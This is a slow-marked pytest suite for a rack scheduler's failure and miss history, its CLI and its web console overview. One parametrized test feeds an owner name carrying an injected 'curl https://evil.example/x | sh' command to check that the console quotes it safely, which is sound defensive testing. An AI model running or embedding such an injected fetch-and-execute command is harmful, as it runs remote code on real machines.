"""Failures first, on both backends: every missed firing kept (a freeze's repeated holds of
a schedule once per window) and pruned by retention; failed tasks newest first; History
holding both (service, CLI, console; filtered by kind and schedule); the console's
overview (counts, failing schedules, latest failures and misses, sync status), its cost
bounded whatever the store holds, and old timeline links redirected.

The test clock starts at 2026-06-01T12:00Z.
"""

from __future__ import annotations

import json
import re
import uuid
from datetime import timedelta
from pathlib import Path

import pytest
import sqlalchemy as sa

from rackcron.domain.models import (
    Freeze,
    FreezeSelector,
    MissReason,
    Rack,
    ScheduleConfig,
    SpecType,
)
from rackcron.service import Service
from rackcron.store import transaction
from rackcron.store.tables import task
from tests.conftest import Clock, Fleet
from tests.support.cli import run
from tests.support.console import Console, Page, serve_console
from tests.support.service import make_operation

pytestmark = pytest.mark.slow


def _due(service: Service, clock: Clock, racks, name: str, deadline: str | None = None):  # type: ignore[no-untyped-def]
    """An hourly power-on of ``racks``, due now."""
    clock.advance(hours=-1)
    config = ScheduleConfig(name=name, spec_type=SpecType.INTERVAL, spec="1h")
    made = service.create_schedule(
        config, make_operation("power_on", racks), starting_deadline=deadline
    )
    clock.advance(hours=1)
    return made


def _fail(service: Service, task_ids, message: str) -> None:
    ended = service.clock()
    with transaction(service.engine) as conn:
        for n, task_id in enumerate(task_ids):
            conn.execute(
                task.update()
                .where(task.c.id == task_id)
                .values(status="failed", message=message, finished_at=ended + timedelta(seconds=n))
            )


def _freeze(service: Service, clock: Clock, racks: list[str], hours: float = 3) -> Freeze:
    start = clock.now - timedelta(minutes=1)
    return service.upsert_freeze(
        Freeze(
            id=uuid.uuid4(),
            name="backups",
            start=start,
            end=start + timedelta(hours=hours),
            selector=FreezeSelector(racks=racks),
        )
    )


# --- what the store keeps ----------------------------------------------------------------------


def test_every_deadline_miss_is_kept_newest_first(service: Service, fleet: Fleet, clock) -> None:
    late = _due(service, clock, fleet.racks[:1], "late", deadline="1m")
    clock.advance(minutes=10)
    assert service.fire_due() == []
    clock.advance(hours=1, minutes=30)  # due again 1 h after the miss, 30 min late
    assert service.fire_due() == []
    misses = [e for e in service.history(kinds=("miss",))]
    assert [(m.schedule_name, m.reason, m.lateness_seconds) for m in misses] == [
        ("late", MissReason.DEADLINE, 1800.0),
        ("late", MissReason.DEADLINE, 600.0),
    ]
    assert misses[0].schedule_id == late.id and misses[0].at == clock.now
    # Kept past the schedule's deletion, under the name it had.
    service.delete_schedule(late.id)
    assert len(service.history(kinds=("miss",), schedule_id=late.id)) == 2


def test_a_freeze_holding_a_schedule_again_and_again_is_kept_once(
    service: Service, fleet: Fleet, clock
) -> None:
    _freeze(service, clock, ["rack-a01"])
    _due(service, clock, fleet.racks[:1], "held")
    for _ in range(3):  # held at each hourly firing of the same window
        assert service.fire_due() == []
        clock.advance(hours=1)
    (kept,) = service.history(kinds=("miss",))
    assert (kept.reason, kept.detail) == (MissReason.FREEZE, "backups")


def test_retention_prunes_the_misses_it_outlived(service: Service, fleet: Fleet, clock) -> None:
    _due(service, clock, fleet.racks[:1], "late", deadline="1m")
    clock.advance(minutes=10)
    service.fire_due()
    clock.advance(days=2)
    assert service.prune_firings(timedelta(days=3)) == 0
    assert len(service.history(kinds=("miss",))) == 1
    assert service.prune_firings(timedelta(days=1)) == 1
    assert service.history(kinds=("miss",)) == []


def test_failures_come_newest_first_with_names_and_filter_by_schedule(
    service: Service, fleet: Fleet, clock
) -> None:
    one = _due(service, clock, fleet.racks[:2], "one")
    two = _due(service, clock, fleet.racks[2:3], "two")
    fired = {r.firing.schedule.id: r.task_ids for r in service.fire_due()}
    _fail(service, fired[one.id], "no answer")
    clock.advance(minutes=1)
    _fail(service, fired[two.id], "refused")
    with transaction(service.engine) as conn:  # a completed task is no failure
        conn.execute(task.update().where(task.c.id == fired[one.id][1]).values(status="completed"))
    failures = service.history(kinds=("failure",))
    assert [(f.schedule, f.rack, f.task.message) for f in failures] == [
        ("two", "rack-a03", "refused"),
        ("one", "rack-a01", "no answer"),
    ]
    assert [f.schedule for f in service.history(kinds=("failure",), schedule_id=one.id)] == ["one"]
    assert service.history(kinds=("failure", "apply"), schedule_id=two.id)[0].schedule == "two"


# --- the CLI ---------------------------------------------------------------------------------------


def _a_miss_then_a_failure(service: Service, fleet: Fleet, clock: Clock):  # type: ignore[no-untyped-def]
    """Schedule "late" misses its deadline; then "flaky"'s task fails ("boom")."""
    _due(service, clock, fleet.racks[:1], "late", deadline="1m")
    flaky = _due(service, clock, fleet.racks[1:2], "flaky")
    clock.advance(minutes=10)
    (fired,) = service.fire_due()
    clock.advance(minutes=1)  # after the miss
    _fail(service, fired.task_ids, "boom")
    assert fired.firing.schedule.id == flaky.id
    return flaky


def test_history_cli_lists_failures_and_misses_filtered(
    service: Service, fleet: Fleet, clock, store_url: str
) -> None:
    _a_miss_then_a_failure(service, fleet, clock)
    table = run("history", url=store_url)
    assert table.exit_code == 0, table.output
    lines = table.output.splitlines()
    assert (
        "task failed" in lines[1] and "power on on rack rack-a02" in lines[1] and "boom" in lines[1]
    )
    assert "firing missed" in lines[2] and "schedule late" in lines[2]
    assert "past its starting deadline" in lines[2]
    only = json.loads(run("history", "--kind", "miss", "--format", "json", url=store_url).output)
    assert only["format_version"] == "1.3"
    assert [e["type"] for e in only["entries"]] == ["miss"]
    mine = run("history", "--schedule", "flaky", "--format", "json", url=store_url)
    assert [e["type"] for e in json.loads(mine.output)["entries"]] == ["failure", "action"]
    typo = run("history", "--schedule", "flakey", url=store_url)
    assert typo.exit_code != 0 and "flaky" in typo.output  # did you mean
    bad = run("history", "--kind", "failures", url=store_url)
    assert bad.exit_code == 2 and "'failure'" in bad.output


# --- the console -----------------------------------------------------------------------------------


@pytest.fixture
def console(service: Service):  # type: ignore[no-untyped-def]
    server = serve_console(service, "127.0.0.1")
    yield Console(server)
    server.stop()


def test_the_overview_puts_failures_first(
    service: Service, fleet: Fleet, clock, console: Console, store_url: str
) -> None:
    quiet = console.get("/")
    assert quiet.status == 200 and "Nothing failing" in quiet.body
    _freeze(service, clock, ["rack-a04"])
    _due(service, clock, fleet.racks[3:4], "held")
    _due(service, clock, fleet.racks[:1], "late", deadline="1m")
    flaky = _due(service, clock, fleet.racks[1:3], "flaky")
    _due(service, clock, fleet.racks[4:5], "fine")
    clock.advance(minutes=10)
    fired = {r.firing.schedule.id: r.task_ids for r in service.fire_due()}
    _fail(service, fired[flaky.id][:1], "controller said <b>no</b>")
    page = console.get("/")
    assert page.status == 200
    counts = {label.strip(): int(n) for n, label in _tiles(page.body)}
    assert counts == {"running": 2, "waiting": 0, "failed (24 h)": 1, "missed (24 h)": 1,
                      "held by freezes (24 h)": 1, "racks refused (24 h)": 0, "roll-outs stopped": 0,
                      "out of step with Git": 0}  # fmt: skip
    failing, failures, misses = _sections(page.body)
    assert _schedules(failing) == ["flaky"]
    assert "controller said &lt;b&gt;no&lt;/b&gt;" in failures
    assert "failed 1/2, running 1/2" in failing
    assert sorted(_schedules(misses)) == ["held", "late"]
    assert "controller said &lt;b&gt;no&lt;/b&gt;" in page.body
    assert "past its starting deadline" in page.body and "held by freeze backups" in page.body
    assert "No apply is recorded" in page.body
    assert page.all("a", href="/history?kind=failure")


def _entries(page: Page) -> list[str]:
    return [a["class"] for a in page.all("tr") if a.get("class", "").startswith("entry-")]


def _tiles(body: str) -> list[tuple[str, str]]:
    return re.findall(r'<span class="count">(\d+)</span>([^<]+)</a>', body)


def _sections(body: str) -> list[str]:
    """The failing schedules', latest failures' and latest misses' parts of the overview."""
    parts = re.split(r"<h2>", body)
    return [next(p for p in parts if p.startswith(title)) for title in
            ("Failing schedules", "Latest failures", "Latest missed and held firings")]  # fmt: skip


def _schedules(part: str) -> list[str]:
    return re.findall(r'<tr data-schedule="([^"]+)"', part)


def test_the_overview_shows_each_repositorys_sync_status(
    service: Service, console: Console, store_url: str
) -> None:
    examples = Path(__file__).resolve().parents[2] / "examples" / "fleet"
    applied = run("apply", str(examples), "--auto-approve", "--owner", "fleet", url=store_url)
    assert applied.exit_code == 0, applied.output
    paused = run("schedules", "pause", "monday-power-on", "--reason", "row B work", url=store_url)
    assert paused.exit_code == 0, paused.output
    page = console.get("/")
    (section,) = page.all("section", **{"data-owner": "fleet"})
    assert section["class"] == "sync sync-drifted"
    assert "rackcron status of owner fleet: drifted" in page.body
    assert "1 change outside an apply since apply #1" in page.body


def test_an_old_timeline_link_is_redirected(console: Console) -> None:
    moved = console.get("/?window=7d&by=schedule")
    assert moved.status == 303
    assert moved.headers["location"] == "/timeline?window=7d&by=schedule"
    assert console.get("/timeline?window=7d").status == 200


def test_history_page_filters_by_kind_and_schedule(
    service: Service, fleet: Fleet, clock, console: Console
) -> None:
    flaky = _a_miss_then_a_failure(service, fleet, clock)
    every = _entries(console.get("/history"))
    assert every[:2] == ["entry-failure", "entry-miss"]  # then the schedules' creation
    assert set(every[2:]) == {"entry-action"}
    assert _entries(console.get("/history?kind=miss")) == ["entry-miss"]
    assert _entries(console.get("/history?schedule=flaky")) == ["entry-failure", "entry-action"]
    by_id = console.get(f"/history?schedule={flaky.id}&kind=failure")
    assert _entries(by_id) == ["entry-failure"]
    assert console.get("/history?kind=bogus").status == 400
    assert console.get("/history?schedule=nope").status == 404


def _times(page: Page) -> list[str]:
    return [a["datetime"] for a in page.all("time") if "datetime" in a]


def test_history_pages_go_back_in_time_unshifted_by_what_happens_meanwhile(
    service: Service, fleet: Fleet, clock, console: Console, store_url: str
) -> None:
    """230 entries of every kind, one a second: pages of 100, newest first; a page's
    links carry the instant its first page was shown, so entries recorded later do not
    shift the older pages; the CLI pages the same way."""
    _a_miss_then_a_failure(service, fleet, clock)
    made = service.create_schedule(
        ScheduleConfig(name="toggled", spec_type=SpecType.INTERVAL, spec="1h"),
        make_operation("power_on", fleet.racks[:1]),
    )
    for _ in range(113):
        clock.advance(seconds=1)
        service.pause_schedule(made.id)
        clock.advance(seconds=1)
        service.resume_schedule(made.id)
    every = service.history(0)
    assert len(every) > 230
    first = console.get("/history")
    assert len(_times(first)) == 100 and not first.all("a", rel="prev")
    (older,) = first.all("a", rel="next")
    clock.advance(seconds=1)
    service.pause_schedule(made.id)  # newer than every page shown: shifts none of them
    second = console.get(older["href"])
    assert "Entries 101 to 200, newest first" in second.body
    expected = [e.at if hasattr(e, "at") else e.applied_at for e in every[100:200]]
    assert _times(second) == [t.strftime("%Y-%m-%dT%H:%M:%S") + "Z" for t in expected]
    (newer,) = second.all("a", rel="prev")
    assert _times(console.get(newer["href"])) == _times(first)
    (third_link,) = second.all("a", rel="next")
    third = console.get(third_link["href"])
    assert len(_times(third)) == len(every) - 200 and not third.all("a", rel="next")
    typed = console.get("/history?page=2")  # reached without a link: from the newest
    assert _times(typed) == _times(first)[-1:] + _times(second)[:-1]  # one entry since
    (back,) = typed.all("a", rel="prev")
    newest = _times(console.get(back["href"]))
    assert newest[1:] == _times(first)[:-1] and newest[0] > _times(first)[0]
    past = console.get("/history?page=100")
    assert "No entries past the newest 9900." in past.body and not past.all("a", rel="next")
    for bad in ("page=0", "page=101", "page=x", "until=yesterday"):
        assert console.get(f"/history?{bad}").status == 400, bad
    until = second.all("a", rel="next")[0]["href"].split("until=")[1].split("&")[0]
    until = until.replace("%3A", ":")
    listed = run("history", "--format", "json", "--limit", "100", "--offset", "100",
                 "--until", until, url=store_url)  # fmt: skip
    assert [e["at"] for e in json.loads(listed.output)["entries"]] == [
        e["at"] for e in json.loads(run("history", "--format", "json", "--limit", "0",
                                        url=store_url).output)["entries"][101:201]
    ]  # fmt: skip
    beyond = run("history", "--offset", "100000", url=store_url)
    assert beyond.exit_code == 0 and beyond.output == "Nothing at offset 100000.\n"
    huge = run("history", "--limit", "3000000000", url=store_url)
    assert huge.exit_code == 2 and "--limit" in huge.output


def test_the_overview_reads_the_same_statements_whatever_the_store_holds(
    service: Service, fleet: Fleet, clock, console: Console
) -> None:
    def statements() -> int:
        seen: list[str] = []

        def record(conn, cursor, statement, *args) -> None:  # type: ignore[no-untyped-def]
            seen.append(statement)

        sa.event.listen(service.engine, "before_cursor_execute", record)
        try:
            assert console.get("/").status == 200
        finally:
            sa.event.remove(service.engine, "before_cursor_execute", record)
        return len(seen)

    def failing(n: int) -> None:
        for i in range(n):
            made = _due(service, clock, fleet.racks[i % 5 : i % 5 + 1], f"s{n}-{i}")
            (fired,) = service.fire_due()
            assert fired.firing.schedule.id == made.id
            _fail(service, fired.task_ids, "boom")

    failing(3)
    few = statements()
    failing(30)
    assert statements() == few


def test_the_schedules_page_shows_results_sorts_failing_first_and_pages(
    service: Service, fleet: Fleet, clock, console: Console
) -> None:
    sixth = service.upsert_rack(Rack(id=uuid.uuid4(), name="rack-a06")).id
    for i in range(105):
        _due(service, clock, [*fleet.racks, sixth], f"s{i:03}")
    apart = [service.upsert_rack(Rack(id=uuid.uuid4(), name=f"rack-b0{i}")).id for i in (1, 2)]
    flaky = _due(service, clock, apart, "zz-flaky")  # racks of its own: nothing in its way
    fired = {r.firing.schedule.id: r.task_ids for r in service.fire_due()}
    _fail(service, fired[flaky.id][:1], "boom")
    first = console.get("/schedules")
    assert "106 of 106 schedules, page 1 of 2, by name." in first.body
    assert _schedules(first.body)[:2] == ["s000", "s001"] and len(_schedules(first.body)) == 100
    assert "rack-a01, rack-a02, rack-a03, rack-a04, rack-a05 and 1 more" in first.body
    assert first.all("a", href="/schedules?page=2", rel="next")
    second = console.get("/schedules?page=2")
    assert _schedules(second.body) == ["s100", "s101", "s102", "s103", "s104", "zz-flaky"]
    assert re.search(rf'class="status-failed"><a href="/tasks\?schedule={flaky.id}&amp;status=failed">'
                     r"failed 1/2\b", second.body)  # fmt: skip
    failing = console.get("/schedules?sort=result&enabled=yes")
    assert _schedules(failing.body)[:2] == ["zz-flaky", "s000"]  # failing, then running
    assert failing.all("a", href="/schedules?sort=result&enabled=yes&page=2", rel="next")
    assert _schedules(console.get("/schedules?page=99").body)[-1] == "zz-flaky"  # the last
    assert console.get("/schedules?sort=bogus").status == 400
    assert console.get("/schedules?page=0").status == 400


def test_a_schedule_that_failed_today_is_failing_though_its_latest_task_completed(
    service: Service, fleet: Fleet, clock, console: Console
) -> None:
    flaky = _due(service, clock, fleet.racks[:1], "flaky")
    (fired,) = service.fire_due()
    _fail(service, fired.task_ids, "boom")
    clock.advance(hours=1)  # due again: this time it completes
    (again,) = service.fire_due()
    with transaction(service.engine) as conn:
        conn.execute(task.update().where(task.c.id.in_(again.task_ids))
                     .values(status="completed", finished_at=clock.now))  # fmt: skip
    failing, _, _ = _sections(console.get("/").body)
    assert _schedules(failing) == ["flaky"]
    assert '<td data-label="Failed (24 h)">1</td>' in failing
    assert '&amp;status=failed">completed</a>' in failing  # to its failed tasks
    clock.advance(days=2)  # a day later it is no longer failing
    assert "None: the latest task" in console.get("/").body
    assert flaky.name == "flaky"


@pytest.mark.parametrize("owner", ["fleet; curl https://evil.example/x | sh #", "o'brien"])
def test_the_overview_quotes_an_owner_in_the_command_it_suggests(owner: str) -> None:
    import shlex

    from rackcron.console.overview import SyncStatus

    command = SyncStatus(owner, "drifted", [], 3).command
    assert shlex.split(command) == ["rackcron", "status", "--owner", owner]


def test_a_firing_whose_racks_the_task_manager_refuses_is_counted_and_in_history(
    service: Service, fleet: Fleet, clock, console: Console, store_url: str
) -> None:
    clock.advance(hours=-1)
    config = ScheduleConfig(name="fw", spec_type=SpecType.INTERVAL, spec="1h")
    service.create_schedule(
        config, make_operation("upgrade_firmware", fleet.racks[:2], target_version="2")
    )
    clock.advance(minutes=1)  # due a minute after the upgrade: it finds it running
    reset = ScheduleConfig(name="reset", spec_type=SpecType.INTERVAL, spec="1h")
    made = service.create_schedule(reset, make_operation("power_reset", fleet.racks[:2]))
    clock.advance(minutes=59)
    service.fire_due()
    clock.advance(minutes=1)
    fired = service.fire_due()
    assert [o.result for f in fired for o in f.outcomes] == ["failed", "failed"], fired
    (refusal,) = service.history(kinds=("refusal",))
    assert (refusal.schedule_id, refusal.racks) == (made.id, ["rack-a01", "rack-a02"])
    page = console.get("/")
    assert re.search(r'<span class="count">2</span> racks refused \(24 h\)', page.body)
    listed = json.loads(
        run("history", "--kind", "refusal", "--format", "json", url=store_url).output
    )
    (entry,) = listed["entries"]
    assert (entry["type"], entry["schedule"], entry["racks"]) == (
        "refusal", "reset", ["rack-a01", "rack-a02"],
    )  # fmt: skip
    table = run("history", "--kind", "refusal", url=store_url).output
    assert "firing refused" in table and "no task on 2 racks: rack-a01, rack-a02" in table
    assert _entries(console.get("/history?kind=refusal")) == ["entry-refusal"]


def test_tasks_list_keeps_the_statuses_asked(
    service: Service, fleet: Fleet, clock, store_url: str
) -> None:
    flaky = _due(service, clock, fleet.racks[:2], "flaky")
    (fired,) = service.fire_due()
    _fail(service, fired.task_ids[:1], "boom")
    failed = run("tasks", "list", "--status", "failed", "--format", "json", url=store_url)
    assert [t["id"] for t in json.loads(failed.output)["tasks"]] == [str(fired.task_ids[0])]
    both = run("tasks", "list", "--status", "failed", "--status", "pending", url=store_url)
    assert len(both.output.splitlines()) == 3 and flaky.name in both.output
    none = run("tasks", "list", "--status", "running", url=store_url)
    assert none.output == "No tasks match.\n"


def test_schedules_get_shows_the_last_result_as_the_list_does(
    service: Service, fleet: Fleet, clock, store_url: str
) -> None:
    flaky = _due(service, clock, fleet.racks[:2], "flaky")
    (fired,) = service.fire_due()
    _fail(service, fired.task_ids[:1], "boom")
    got = run("schedules", "get", "flaky", url=store_url).output
    assert "last result:    failed 1/2, running 1/2\nactive tasks:   1\n" in got
    data = json.loads(run("schedules", "get", "flaky", "--format", "json", url=store_url).output)
    assert (data["last_result"]["summary"], data["active_tasks"]) == ("failed 1/2, running 1/2", 1)
    assert data["id"] == str(flaky.id)
